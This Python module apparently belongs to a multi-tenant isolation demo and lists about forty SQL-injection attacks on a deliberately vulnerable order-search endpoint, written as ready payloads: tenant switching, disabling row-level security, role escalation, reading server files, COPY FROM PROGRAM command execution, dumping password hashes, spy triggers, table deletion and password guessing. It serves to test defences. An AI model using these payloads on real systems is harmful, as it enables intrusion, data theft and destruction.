"""The attacks: who sends what, and what would be the loot.

The attacker has a token of his tenant and the hole of ``GET /api/orders/search``: whatever he
writes into ``words`` becomes SQL, several statements of it where he likes. Each attack is played
against the application behind the edge, and against the control (demo/tenants/control.py).
``<A>`` is the attacker's tenant, ``<B>`` the victim's, ``<SEALED>`` a sealed value of the victim's.
"""

from collections.abc import Mapping
from typing import Any, NamedTuple

from demo.tenants.facts import EMAILS, PASSWORDS, THEIRS_ALONE, VICTIM, VICTIM_DOMAIN

ORDERS = "/api/orders"
SEARCH = "/api/orders/search"
LOGIN = "/api/v1/auth/login"
THEIRS = "SELECT string_agg(item, ', ') FROM orders WHERE tenant_id = '<B>'"
GUESSES = ("password", "123456", "globex", "Globex2025", "Globex2026", "letmein!")


class Step(NamedTuple):
    """One request."""

    method: str = "GET"
    path: str = ORDERS
    query: Mapping[str, str] = {}
    body: Mapping[str, Any] | None = None
    headers: Mapping[str, str] = {}
    host: str | None = None
    by_victim: bool = False
    logged_in: bool = True
    direct: bool = False
    """To the application itself, past the edge."""


class Attack(NamedTuple):
    """Requests; it succeeds where ``loot`` is in an answer, or the victim is harmed.

    Both are looked for in ``<status> <body>``, line by line.
    """

    name: str
    steps: tuple[Step, ...]
    loot: str = THEIRS_ALONE
    means: str = ""
    """What the loot is, where its text does not say it."""
    harm: str = "^5"
    """The same for the victim's answers: a regular expression of what must not come."""
    victim_orders: bool = False
    """The victim orders something itself meanwhile: then a change of its orders says nothing."""
    undo: str = ""
    """SQL that a superuser runs after it in the control's database."""


def search(words: str, sort: str = "number") -> Step:
    """Ask with words that become SQL."""
    return Step(path=SEARCH, query={"words": words, "sort": sort})


def sql(statements: str) -> Step:
    """Put statements after the query's."""
    return search(f"zz%'; {statements}; --")


def told(statements: str, expression: str = THEIRS) -> Step:
    """Put statements after the query's, and have an expression's value told by an error."""
    said = f"DO $x$ BEGIN RAISE EXCEPTION 'got: %', ({expression}); END $x$"
    return sql(f"{statements}; {said}" if statements else said)


LIST = Step()
VICTIM_LISTS = Step(by_victim=True)
VICTIM_PLACES = Step(
    "POST", body={"number": 190, "item": "shuttle-7269", "cents": 1}, by_victim=True
)
ATTACKS = (
    # What the query itself lets through.
    Attack("' OR 1=1", (search("%' OR 1=1 --"),)),
    Attack(
        "UNION over the table", (search("zz%' UNION SELECT number, item, cents FROM orders --"),)
    ),
    Attack(
        "a question in WHERE, answered by rows",
        (search("%' AND EXISTS (SELECT FROM orders WHERE item LIKE 'plu%') --"),),
        loot='"number"',
        means="yes: there is such an order",
    ),
    Attack(
        "ORDER BY an error that tells",
        (search("", "(SELECT string_agg(item, ', ') FROM orders WHERE tenant_id = '<B>')::int"),),
    ),
    Attack("the export without a WHERE", (Step(path="/api/orders/export"),)),
    # Another tenant, by the setting.
    Attack("SET app.tenant_id", (told("SET app.tenant_id = '<B>'"),)),
    Attack(
        "the same in a DO block, put together",
        (
            told(
                "DO $d$ BEGIN EXECUTE 'SET LOCAL app.tenant' || '_id = ' || quote_literal('<B>'); "
                "END $d$",
            ),
        ),
    ),
    Attack(
        "set_config in the same statement",
        (
            search(
                "zz%' UNION SELECT o.number, o.item, o.cents FROM (SELECT "
                "set_config('app.tenant_id', '<B>', true) OFFSET 0) s, orders o --"
            ),
        ),
    ),
    Attack(
        "his own seal beside the other's tenant",
        (
            told(
                "SELECT set_config('app.tenant_seal', current_setting('app.tenant_seal', true), "
                "false), set_config('app.tenant_id', '<B>', false)"
            ),
        ),
    ),
    Attack(
        "COMMIT, then a transaction of his own",
        (told("COMMIT; BEGIN; SET LOCAL app.tenant_id = '<B>'"),),
    ),
    Attack(
        "ROLLBACK TO a savepoint before the tenant",
        (told("SAVEPOINT s; SET LOCAL app.tenant_id = '<B>'; ROLLBACK TO s"),),
    ),
    Attack(
        "a cursor WITH HOLD, left open",
        (
            sql("DECLARE c CURSOR WITH HOLD FOR SELECT item FROM orders"),
            VICTIM_LISTS,
            sql(
                "DO $x$ DECLARE c refcursor = 'c'; r record; t text = ''; BEGIN LOOP "
                "FETCH c INTO r; EXIT WHEN NOT FOUND; t = t || r.item; END LOOP; "
                "RAISE EXCEPTION 'got: %', t; END $x$"
            ),
        ),
    ),
    # Another role, or no policy.
    Attack("RESET ROLE", (told("RESET ROLE"),)),
    Attack("SET ROLE to a superuser", (told("SET ROLE postgres"),)),
    Attack("SET SESSION AUTHORIZATION", (told("SET SESSION AUTHORIZATION postgres"),)),
    Attack("SET row_security = off", (told("SET row_security = off"),)),
    Attack("ALTER TABLE … DISABLE", (told("ALTER TABLE orders DISABLE ROW LEVEL SECURITY"),)),
    Attack("a policy of his own", (told("CREATE POLICY mine ON orders USING (true)"),)),
    Attack("ALTER ROLE … BYPASSRLS", (told("ALTER ROLE CURRENT_USER BYPASSRLS"),)),
    Attack(
        "CREATE FUNCTION … SECURITY DEFINER",
        (
            told(
                "CREATE FUNCTION public.spy() RETURNS text LANGUAGE sql SECURITY DEFINER "
                "AS 'SELECT string_agg(item, '','') FROM public.orders'",
                "SELECT spy()",
            ),
        ),
    ),
    # Round the table: statistics, files, other sessions.
    Attack(
        "values in pg_stats",
        (
            told(
                "",
                "SELECT string_agg(concat(most_common_vals, histogram_bounds), '') FROM pg_stats "
                "WHERE tablename = 'orders'",
            ),
        ),
    ),
    Attack(
        "values in pg_statistic",
        (told("", "SELECT string_agg(concat(stavalues1, stavalues2), '') FROM pg_statistic"),),
    ),
    Attack(
        "a guess, compared by EXPLAIN with statistics",
        (
            sql(
                "DO $x$ DECLARE plan json; BEGIN EXECUTE 'EXPLAIN (FORMAT JSON) SELECT FROM "
                "orders, generate_series(1, 1000) WHERE item >= ''plu'' AND item < ''plv''' "
                "INTO plan; RAISE EXCEPTION 'got: %', plan->0->'Plan'->>'Plan Rows'; END $x$"
            ),
        ),
        loot=r"got: [2-9]\d{3}",
        means="yes: there are some",
    ),
    Attack(
        "statements of other sessions",
        (told("", "SELECT string_agg(query, '; ') FROM pg_stat_activity WHERE query ~ '^/[*]'"),),
    ),
    Attack(
        "COPY … FROM PROGRAM",
        (
            sql(
                "COPY orders (tenant_id, number, item, cents) FROM PROGRAM "
                "'echo <A>,77,$(id -un),0' (FORMAT csv)"
            ),
            LIST,
        ),
        loot='"number":77',
        means="a program ran on the server",
    ),
    Attack(
        "pg_read_file",
        (told("", "SELECT pg_read_file('pg_hba.conf')"),),
        "trust",
        "a file of the server",
    ),
    Attack(
        "a file by a large object",
        (
            told(
                "SELECT lo_import('pg_hba.conf', 4242)",
                "SELECT convert_from(lo_get(4242), 'UTF8')",
            ),
        ),
        loot="trust",
        means="a file of the server",
    ),
    Attack(
        "password hashes and wrapped keys",
        (told("", "SELECT string_agg(password_hash, ' ') FROM accounts"),),
        loot=r"\$argon2id\S+",
    ),
    # Existence, without a row.
    Attack(
        "a number that the other has",
        (Step("POST", body={"number": 101, "item": "anvil", "cents": 1}),),
        loot="^409",
        means="the number exists",
    ),
    # Writing.
    Attack(
        "INSERT for the other tenant",
        (sql("INSERT INTO orders (tenant_id, number, item, cents) VALUES ('<B>', 109, 'x', 0)"),),
    ),
    Attack("UPDATE of the other's rows", (sql("UPDATE orders SET cents = 0 WHERE number > 100"),)),
    Attack(
        "taking the other's rows",
        (sql("UPDATE orders SET tenant_id = '<A>' WHERE number = 102"), LIST),
    ),
    Attack("DELETE", (sql("DELETE FROM orders WHERE number > 100"),)),
    Attack("TRUNCATE", (sql("TRUNCATE orders"),)),
    Attack(
        "a trigger on what the other orders",
        (
            sql(
                "CREATE FUNCTION public.spy() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN "
                "IF NEW.number = 190 THEN INSERT INTO orders (tenant_id, number, item, cents) "
                "VALUES ('<A>', 191, NEW.item, 0); END IF; RETURN NEW; END $f$; "
                "CREATE TRIGGER spy AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION spy()"
            ),
            VICTIM_PLACES,
            LIST,
        ),
        victim_orders=True,
        undo="DROP FUNCTION IF EXISTS public.spy CASCADE",
    ),
    # What is left in a session that the pool gives to the next request.
    Attack("a search_path left in the session", (sql("SET search_path = pg_catalog"),)),
    Attack(
        "a session that can only read",
        (sql("SET default_transaction_read_only = on"), VICTIM_PLACES, VICTIM_LISTS),
        victim_orders=True,
    ),
    Attack(
        "a temporary table in the table's place",
        (sql("CREATE TEMPORARY TABLE orders (LIKE public.orders)"),),
    ),
    Attack(
        "prepared statements replaced",
        (
            *(VICTIM_LISTS,) * 8,
            sql(
                "DO $x$ DECLARE each text; BEGIN FOR each IN SELECT name FROM "
                "pg_prepared_statements LOOP EXECUTE 'DEALLOCATE ' || each; "
                "EXECUTE 'PREPARE ' || each || ' AS SELECT 1'; END LOOP; END $x$"
            ),
        ),
    ),
    # A sealed field.
    Attack(
        "a stolen sealed value, put into his own row",
        (
            sql(r"UPDATE orders SET email_sealed = '\x<SEALED>' WHERE number = 1"),
            LIST,
        ),
    ),
    # Past the database.
    Attack("x-tenant-id of the other", (Step(headers={"x-tenant-id": VICTIM}),)),
    Attack("the other's host", (Step(host=VICTIM_DOMAIN),)),
    Attack(
        "straight to the application",
        (Step(headers={"x-tenant-id": VICTIM}, direct=True),),
    ),
    Attack(
        "guessing the other's password",
        tuple(
            Step(
                "POST",
                LOGIN,
                body={"email": EMAILS[VICTIM], "password": guess},
                logged_in=False,
            )
            for guess in (*GUESSES, PASSWORDS[VICTIM])
        ),
        loot="^200",
        means="a login as the other",
    ),
)
